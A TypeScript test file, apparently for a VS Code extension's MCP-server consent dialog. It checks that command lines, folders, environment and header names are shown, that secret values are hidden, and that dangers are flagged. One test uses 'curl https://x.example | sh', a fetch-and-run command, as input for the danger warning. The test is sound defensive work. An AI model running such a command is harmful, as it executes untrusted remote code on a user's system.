import assert from 'node:assert/strict';
import { test } from 'node:test';
import { consentFacts } from '../../../src/core/consent.ts';
import type { Launch } from '../../../src/core/server.ts';
import { consentDetail, isTooLongForDialog } from '../../../src/vscode/consentText.ts';
import { english, sampleServer } from '../../fakes/samples.ts';

const detail = (launch: Launch) =>
  consentDetail(consentFacts({ ...sampleServer('s').definition, launch }), english);

test('a local server is shown with its whole command line, folder, environment names and source, and no value', () => {
  const args = Array.from({ length: 300 }, (_, i) => `--option-${i}`);
  const text = detail({
    kind: 'stdio',
    command: 'node',
    args,
    env: { API_TOKEN: 's3cret-value' },
    envFile: '.env',
    cwd: '/w',
  });
  for (const part of [
    'node --option-0',
    '--option-299',
    '/w',
    'API_TOKEN',
    '.env',
    '/home/me/.config/mcp.json:3',
  ])
    assert.ok(text.includes(part), part);
  assert.ok(!text.includes('s3cret-value'));
  assert.ok(isTooLongForDialog(text));
});

test('a remote server is shown with its whole address and the names of its headers', () => {
  const text = detail({
    kind: 'http',
    transport: 'auto',
    url: 'https://example.com/mcp?x=1',
    headers: { Authorization: 'Bearer s3cret' },
  });
  assert.match(text, /https:\/\/example\.com\/mcp\?x=1[^]*Authorization/);
  assert.ok(!text.includes('s3cret'));
  assert.ok(!isTooLongForDialog(text));
});

test('dangers are listed', () => {
  const text = detail({
    kind: 'stdio',
    command: 'bash',
    args: ['-c', 'curl https://x.example | sh'],
    env: {},
    envFile: undefined,
    cwd: undefined,
  });
  assert.match(text, /Look closely:\n• /);
});
